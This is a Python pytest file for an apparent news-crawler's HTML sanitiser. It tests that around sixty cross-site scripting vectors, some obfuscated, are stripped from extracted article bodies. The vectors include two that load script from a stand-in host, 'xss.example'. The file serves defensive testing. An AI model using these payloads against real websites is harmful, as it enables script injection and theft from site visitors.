"""body_html is safe to show: XSS vectors through the sanitiser alone and through a real article.

Each vector is checked twice: ``sanitise`` alone must stop it (it is the last word, so a
gap in clean_html's own passes is no hole), and so must the whole of ``extract`` with the
vector put into a real article's body.
"""
from __future__ import annotations

import html
import re

import pytest
from lxml import html as lxml_html

from newscrawl.extract import extract
from newscrawl.extract.text import sanitise
from tests.test_extract_hostile import capture, outcome, with_body_prefix

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="module">import("http://xss.example/x.js")</script>',
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror  =  "alert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="jAvAsCrIpT&#58;alert(1)">x</a>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<img src="vbscript:msgbox(1)">',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    '<math><a xlink:href="javascript:alert(1)">click</a></math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    "<div style=\"width: expression(alert('XSS'));\">x</div>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input type="image" src="javascript:alert(1)">',
    "<body onload=alert(1)>",
    '<a href="http://ok.example/" onmouseover="alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
    '<p onclick="alert(1)">click</p>',
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    '<img """><script>alert(1)</script>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]
ALLOWED = {
    **dict.fromkeys(
        "p br strong b em i u span div h1 h2 h3 h4 h5 h6 ul ol li table thead tbody tr blockquote figure "
        "figcaption sub sup hr pre code".split(),
        set(),
    ),
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan"},
    "img": {"src", "alt", "width", "height"},
    "a": {"href", "title", "rel"},
}
_HANDLER = re.compile(r"<[^>]*\son\w+\s*=", re.I)
_SCHEME = re.compile(r"^(?:javascript|vbscript|data):")


def survivors(body_html: str) -> list[str]:
    """What of an attack is left in ``body_html``: tags, handlers, URLs a browser would run."""
    found = []
    if "<script" in body_html.lower():
        found.append("<script")
    found += _HANDLER.findall(body_html)
    if not body_html.strip():
        return found
    # Old browsers skipped NULs (java\0script:); lxml would end the value there.
    for el in lxml_html.fragment_fromstring(body_html.replace("\x00", "").encode(), create_parent="div").iterdescendants():
        if not isinstance(el.tag, str):
            found.append(f"node {el!r}")
            continue
        if el.tag not in ALLOWED:
            found.append(f"<{el.tag}>")
        for name, value in el.attrib.items():
            if name not in ALLOWED.get(el.tag, set()):
                found.append(f"{el.tag}@{name}")
            # lxml has undone the entities once, as a browser does; browsers also drop
            # control characters and blanks anywhere in a scheme.
            url = re.sub(r"[\x00-\x20]", "", html.unescape(value)).lower()
            if _SCHEME.match(url) or "expression(" in url:
                found.append(f"{el.tag}@{name}={value!r}")
    return found


def test_corpus_is_large_enough():
    assert len(set(VECTORS)) >= 40


@pytest.mark.parametrize("vector", VECTORS)
def test_sanitiser_alone_stops_the_vector(vector):
    assert survivors(sanitise(f"<p>正文</p>{vector}<p>正文</p>")) == []


@pytest.mark.parametrize("vector", VECTORS)
def test_extracted_body_html_holds_nothing_of_the_vector(vector):
    path = capture("lanqiaobei")
    article = outcome(*with_body_prefix(path, vector))
    assert survivors(article.body_html) == []
    assert all(i.url.startswith(("http://", "https://")) for i in article.images)
    assert all(a.url.startswith(("http://", "https://")) for a in article.attachments)


@pytest.mark.parametrize("vector", VECTORS)
def test_the_check_sees_the_vector_unsanitised(vector):
    """``survivors`` judges the tests above: each vector, left as it is, must be caught."""
    assert survivors(vector)


def test_safe_markup_is_kept():
    kept = sanitise('<p>正文<strong>要点</strong><a href="https://example.edu.cn/a.htm" title="t">链接</a>'
                    '<img src="https://example.edu.cn/a.jpg" alt="图" width="10"></p>'
                    '<table><tbody><tr><td colspan="2">格</td></tr></tbody></table><a href="mailto:a@example.edu.cn">信</a>')
    assert kept == ('<p>正文<strong>要点</strong><a href="https://example.edu.cn/a.htm" title="t" rel="noopener">链接</a>'
                    '<img src="https://example.edu.cn/a.jpg" alt="图" width="10"></p>'
                    '<table><tbody><tr><td colspan="2">格</td></tr></tbody></table>'
                    '<a href="mailto:a@example.edu.cn" rel="noopener">信</a>')


def test_real_article_body_keeps_its_text_links_and_images():
    path = capture("boshi-zhaopin")
    article = extract(*with_body_prefix(path, ""))
    assert survivors(article.body_html) == []
    assert '<a href="http://rlzyglc.nuc.edu.cn/rczp.htm" rel="noopener">' in article.body_html
    assert all(f'<img src="{image.url}">' in article.body_html for image in article.images)
